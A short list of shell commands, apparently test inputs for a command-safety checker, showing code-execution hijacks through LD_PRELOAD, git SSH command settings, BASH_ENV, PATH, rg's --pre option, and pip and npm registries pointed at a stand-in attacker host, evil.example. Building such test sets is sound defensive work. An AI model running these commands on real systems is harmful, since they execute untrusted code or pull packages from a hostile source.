LD_PRELOAD=./x.so ls
git -c core.sshCommand=./x fetch
GIT_SSH_COMMAND='sh -c x' git push
BASH_ENV=x.sh bash script.sh
PATH=/tmp/x:$PATH ls
export GIT_SSH=./x; git fetch
rg --pre ./x pattern
PIP_INDEX_URL=https://evil.example/simple pip install requests
npm config set registry https://evil.example
